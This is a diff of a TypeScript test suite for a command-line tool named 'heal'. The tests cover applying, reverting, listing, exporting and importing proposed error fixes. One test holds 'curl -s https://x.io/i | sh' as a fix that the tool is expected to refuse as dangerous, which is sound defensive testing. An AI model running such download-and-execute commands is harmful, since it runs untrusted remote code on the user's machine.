@@ -15,39 +15,74 @@ async function workspace() {
   const store = new LocalStore(path.join(cwd, '.heal'));
   const env = { HEAL_STORE: store.dir };
   await store.update((data) => {
-    const p = newPattern({ tool: 'node', category: 'module-not-found', severity: 'error', message: `Cannot find module '${homedir()}/proj/x.js'`, context: [], startLine: 1, endLine: 1, fingerprint: 'fp00000000000001', coarseFingerprint: 'c1' }, '2026-01-01T00:00:00.000Z');
+    const p = newPattern(
+      {
+        tool: 'node',
+        category: 'module-not-found',
+        severity: 'error',
+        message: `Cannot find module '${homedir()}/proj/x.js'`,
+        context: [],
+        startLine: 1,
+        endLine: 1,
+        fingerprint: 'fp00000000000001',
+        coarseFingerprint: 'c1',
+      },
+      '2026-01-01T00:00:00.000Z',
+    );
     p.examples.push(`Error: Cannot find module '${homedir()}/proj/x.js'`);
     p.counts.seen = 3;
     p.commands.push('node index.js');
     data.patterns[p.fingerprint] = p;
   });
   const propose = (fix: Fix, safety: 'safe' | 'review' | 'dangerous' = 'safe') =>
-    store.update((data) => recordProposals(data, [{ fix, tier: 'rule', confidence: 0.7, why: 'w', safety, provenance: 'rule:t', fingerprint: 'fp00000000000001' }], { commandLine: 'node index.js', cwd }));
+    store.update((data) =>
+      recordProposals(
+        data,
+        [
+          {
+            fix,
+            tier: 'rule',
+            confidence: 0.7,
+            why: 'w',
+            safety,
+            provenance: 'rule:t',
+            fingerprint: 'fp00000000000001',
+          },
+        ],
+        { commandLine: 'node index.js', cwd },
+      ),
+    );
   return { cwd, store, env, propose };
 }
 
 describe('heal apply / revert refusals', () => {
-  it('refuses a dangerous fix with exit 4 and the reason; unknown ids and untrusted workspaces likewise', async () => {
+  it('refuses a dangerous fix and an untrusted workspace with exit 4 and the reason; unknown ids with exit 2', async () => {
     const { cwd, env, propose } = await workspace();
-    await propose({ id: 'danger000001', kind: 'command', command: 'curl -s https://x.io/i | sh', description: 'install' }, 'dangerous');
+    await propose(
+      { id: 'danger000001', kind: 'command', command: 'curl -s https://x.io/i | sh', description: 'install' },
+      'dangerous',
+    );
     const r = await runCli(['apply', 'danger000001', '--yes'], { cwd, env });
     expect(r.code).toBe(4);
     expect(r.stderr).toMatch(/dangerous \(pipes a download into sh\)/);
+    // An unknown id is bad usage (exit 2), for apply and revert alike.
     const unknown = await runCli(['apply', 'nope'], { cwd, env });
-    expect(unknown.code).toBe(4);
+    expect(unknown.code).toBe(2);
     expect(unknown.stderr).toMatch(/No proposed fix with id nope/);
     await propose({ id: 'safe00000001', kind: 'command', command: 'echo ok', description: 'v' });
     const untrusted = await runCli(['apply', 'safe00000001'], { cwd, env: { ...env, HEAL_UNTRUSTED: '1' } });
     expect(untrusted.code).toBe(4);
     expect(untrusted.stderr).toMatch(/not trusted/);
     const revert = await runCli(['revert', 'nope'], { cwd, env });
-    expect(revert.code).toBe(1);
+    expect(revert.code).toBe(2);
     expect(revert.stderr).toMatch(/No apply with id nope/);
   });
 
   it('refuses while the circuit breaker is open, and status shows the breaker', async () => {
     const { cwd, env, propose, store } = await workspace();
-    await store.update((data) => breakerSection.set(data, { state: 'open', reverts: [Date.now() - 60_000, Date.now()], openedAt: Date.now() }));
+    await store.update((data) =>
+      breakerSection.set(data, { state: 'open', reverts: [Date.now() - 60_000, Date.now()], openedAt: Date.now() }),
+    );
     await propose({ id: 'safe00000002', kind: 'command', command: 'echo ok', description: 'v' });
     const r = await runCli(['apply', 'safe00000002'], { cwd, env });
     expect(r.code).toBe(4);
@@ -75,8 +110,12 @@ describe('heal ignore / unquarantine / issues', () => {
     const { cwd, env, propose, store } = await workspace();
     await propose({ id: 'fixid0000001', kind: 'command', command: 'npm install x', description: 'install x' });
     const list = await runCli(['--json', 'issues', 'list'], { cwd, env });
-    expect(JSON.parse(list.stdout).issues).toMatchObject([{ fingerprint: 'fp00000000000001', count: 3, fix: { id: 'fixid0000001', safety: 'safe' } }]);
-    expect((await runCli(['issues', 'list'], { cwd, env })).stdout).toMatch(/fp00000000000001\s+3\s+node.*fixid0000001 \(safe\)/);
+    expect(JSON.parse(list.stdout).issues).toMatchObject([
+      { fingerprint: 'fp00000000000001', count: 3, fix: { id: 'fixid0000001', safety: 'safe' } },
+    ]);
+    expect((await runCli(['issues', 'list'], { cwd, env })).stdout).toMatch(
+      /fp00000000000001\s+3\s+node.*fixid0000001 \(safe\)/,
+    );
 
     await store.update((data) => {
       data.patterns.fp00000000000001.quarantined = true;
@@ -100,19 +139,28 @@ describe('heal ignore / unquarantine / issues', () => {
     const { cwd, env } = await workspace();
     const r = await runCli(['issues', 'review'], { cwd, env });
     expect(r.code).toBe(2);
-    expect(r.stderr).toMatch(/needs an interactive terminal.*heal issues list.*heal apply <fix-id>.*heal ignore <fingerprint>/);
+    expect(r.stderr).toMatch(
+      /needs an interactive terminal.*heal issues list.*heal apply <fix-id>.*heal ignore <fingerprint>/,
+    );
   });
 });
 
 describe('heal export / import', () => {
   it('exports scrubbed YAML and JSON that import back into an empty store', async () => {
     const { cwd, env, store } = await workspace();
-    await store.update((data) => data.patterns.fp00000000000001.fixes.push({ id: 'f1', kind: 'command', command: `node ${homedir()}/proj/fix.js`, description: 'fix' }));
+    await store.update((data) =>
+      data.patterns.fp00000000000001.fixes.push({
+        id: 'f1',
+        kind: 'command',
+        command: `node ${homedir()}/proj/fix.js`,
+        description: 'fix',
+      }),
+    );
     const yaml = await runCli(['export', '--format', 'yaml'], { cwd, env });
     expect(yaml.code).toBe(0);
     expect(yaml.stdout).toContain('heal: patterns');
     expect(yaml.stdout).not.toContain(homedir());
-    expect(yaml.stdout).toContain("~/proj/x.js");
+    expect(yaml.stdout).toContain('~/proj/x.js');
     const file = path.join(cwd, 'export.json');
     const json = await runCli(['export', '--format', 'json', '--output', file], { cwd, env });
     expect(json.code).toBe(0);
@@ -134,7 +182,10 @@ describe('heal export / import', () => {
     const { cwd, env, store } = await workspace();
     const before = readFileSync(store.file);
     const bad = path.join(cwd, 'bad.json');
-    writeFileSync(bad, JSON.stringify({ heal: 'patterns', version: 1, exportedAt: 'x', patterns: [{ fingerprint: 'new' }] }));
+    writeFileSync(
+      bad,
+      JSON.stringify({ heal: 'patterns', version: 1, exportedAt: 'x', patterns: [{ fingerprint: 'new' }] }),
+    );
     const r = await runCli(['import', bad], { cwd, env });
     expect(r.code).toBe(1);
     expect(r.stderr).toMatch(/not a Heal export: patterns\.0\.coarseFingerprint: Required\. Nothing was imported/);
